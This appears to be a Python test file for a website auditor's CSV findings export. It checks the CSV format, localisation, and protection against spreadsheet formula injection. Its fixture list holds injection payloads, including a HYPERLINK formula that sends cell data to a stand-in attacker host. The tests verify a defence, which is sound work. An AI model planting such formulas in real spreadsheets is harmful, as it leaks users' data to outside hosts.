"""``findings.csv`` for journalists and analysts (issue 19): one row per site and rule, RFC 4180,
UTF-8 with a byte-order mark, read back with the csv module; text a hostile page wrote can never
become a spreadsheet formula."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, date, datetime
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from auditor.models import (
    AuditResult,
    Category,
    Evidence,
    Outcome,
    RuleOutcome,
    Severity,
    SiteResult,
    SiteStatus,
    ToolInfo,
)
from auditor.reports import BatchInfo, write_reports
from auditor.reports.batch import FINDINGS_COLUMNS, csv_cell, findings_csv, findings_rows, write_findings_csv

SHOP = "https://lampor.example.se/"
DOWN = "https://nere.example.dk/"
#: What a hostile page could put where a message quotes it.
HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+SUM(1+1)", "-2+3", "@cmd", "\t=1+1",
           "  =IMPORTXML(1)", "\r\n=1", "＝1+1"]


def rule(name: str, outcome: Outcome, message: str, *, evidence: str = "", sv: str = "") -> RuleOutcome:
    return RuleOutcome(rule=name, title=f"Title of {name}", title_i18n={"sv": f"Rubrik för {name}"}, outcome=outcome,
                       message=message, message_i18n={"sv": sv} if sv else {}, category=Category.CONTACT,
                       severity=Severity.MEDIUM, weight=1.0,
                       evidence=[Evidence(url=evidence)] if evidence else [])


def result() -> AuditResult:
    rules = [
        rule("shop-pass", Outcome.PASS, "Given on the contact page.", evidence=SHOP + "kontakt"),
        rule("shop-fail", Outcome.FAIL, 'Quoted from the page: "We answer, eventually", with a comma, and\na line.',
             evidence=SHOP + "villkor?a=1,b=2", sv="Citerat från sidan: ”Vi svarar”"),
        *(rule(f"shop-hostile-{n}", Outcome.NEEDS_REVIEW, text, evidence="=1+1") for n, text in enumerate(HOSTILE)),
        rule("shop-partial", Outcome.PARTIAL, "Only a PO box."),
    ]
    shop = SiteResult(url=SHOP, status=SiteStatus.AUDITED, jurisdiction="se", score=50.0, rules=rules)
    down = SiteResult(url=DOWN, status=SiteStatus.NOT_AUDITED, reason="-DNS failed", jurisdiction="dk")
    return AuditResult(tool=ToolInfo(version="0.1.0"), generated_at=datetime(2026, 12, 5, tzinfo=UTC),
                       as_of=date(2026, 12, 5), sites=[shop, down])


def read_back(path: Path) -> tuple[bytes, list[dict[str, str]]]:
    raw = path.read_bytes()
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return raw, list(csv.DictReader(handle))


def test_one_row_per_site_and_rule_ready_for_a_spreadsheet(tmp_path: Path) -> None:
    written = write_reports(result(), ["findings"], tmp_path,
                            batch=BatchInfo(names={SHOP: "Lampor & Ljus AB"}, tags={}, run_label="run 1"))
    [path] = written.files["findings"]
    assert path.name == "findings.csv"
    raw, rows = read_back(path)
    assert raw.startswith(b"\xef\xbb\xbf" + b"site,trader,jurisdiction,status,rule,title,")  # BOM, then the header
    assert raw.count(b"\r\n") >= len(rows) + 1  # CRLF ends every record
    assert list(rows[0]) == list(FINDINGS_COLUMNS)
    assert len(rows) == len(result().sites[0].rules) + 1
    # The most urgent first: fail, partial, needs review ..., pass; the site not audited as one row.
    assert [r["outcome"] for r in rows[:2]] == ["fail", "partial"] and rows[-2]["outcome"] == "pass"
    failed = rows[0]
    assert failed == {
        "site": SHOP, "trader": "Lampor & Ljus AB", "jurisdiction": "se", "status": "audited", "rule": "shop-fail",
        "title": "Title of shop-fail", "category": "contact", "severity": "medium", "outcome": "fail",
        "message": 'Quoted from the page: "We answer, eventually", with a comma, and\na line.',
        "evidence_url": SHOP + "villkor?a=1,b=2", "report": "",
    }
    assert rows[-1] | {"message": ""} == {
        "site": DOWN, "trader": "", "jurisdiction": "dk", "status": "not_audited", "rule": "", "title": "",
        "category": "", "severity": "", "outcome": "not_audited", "message": "", "evidence_url": "", "report": ""}


def test_no_cell_a_page_wrote_becomes_a_formula(tmp_path: Path) -> None:
    [path] = write_reports(result(), ["findings"], tmp_path, batch=BatchInfo()).files["findings"]
    _, rows = read_back(path)
    messages = {r["rule"]: r["message"] for r in rows}
    for n, text in enumerate(HOSTILE):
        cell = messages[f"shop-hostile-{n}"]
        assert cell.startswith("'") and cell[1:] == text.replace("\r\n", "\n"), (text, cell)
    assert all(r["evidence_url"] == "'=1+1" for r in rows if r["rule"].startswith("shop-hostile"))
    assert rows[-1]["message"] == "'-DNS failed"
    for row in rows:
        for value in row.values():
            assert not value.lstrip(" \t\r\n\u3000").startswith(("=", "+", "-", "@", "＝")), value


def test_messages_in_the_report_language(tmp_path: Path) -> None:
    _, rows = read_back(write_findings_csv(result(), tmp_path / "findings.csv", lang="sv"))
    failed = next(r for r in rows if r["rule"] == "shop-fail")
    assert failed["title"] == "Rubrik för shop-fail" and failed["message"] == "Citerat från sidan: ”Vi svarar”"
    assert failed["outcome"] == "fail"  # codes stay English: data to filter on


def test_links_each_site_to_its_report(tmp_path: Path) -> None:
    written = write_reports(result(), ["html", "findings"], tmp_path, batch=BatchInfo())
    _, rows = read_back(written.files["findings"][0])
    assert {r["report"] for r in rows if r["site"] == SHOP} == {written.site_reports[SHOP].name}


@given(st.text(max_size=40))
def test_csv_cell_only_ever_adds_one_quote(text: str) -> None:
    cell = csv_cell(text)
    assert cell in (text, "'" + text)
    dangerous = re.match(r"\s*[=+\-@＝＋－＠]", text) is not None or text[:1] in ("\t", "\r", "\n")
    assert (cell != text) == dangerous


@given(st.lists(st.fixed_dictionaries({c: st.text(max_size=12) for c in FINDINGS_COLUMNS}), max_size=5))
def test_any_text_reads_back_as_written(rows: list[dict[str, str]]) -> None:
    """RFC 4180 quoting: commas, quotes and line breaks in a cell read back as they were (a
    guarded cell with its quote, a CR as LF)."""
    text = findings_csv(rows)
    assert text.startswith("\ufeff")
    back = list(csv.DictReader(io.StringIO(text[1:], newline="")))
    assert back == [{c: csv_cell(row[c].replace("\r\n", "\n").replace("\r", "\n")) for c in FINDINGS_COLUMNS}
                    for row in rows]


def test_findings_rows_without_the_writer() -> None:
    rows = findings_rows(result(), {}, {}, lang="en")
    assert {r["status"] for r in rows} == {"audited", "not_audited"}
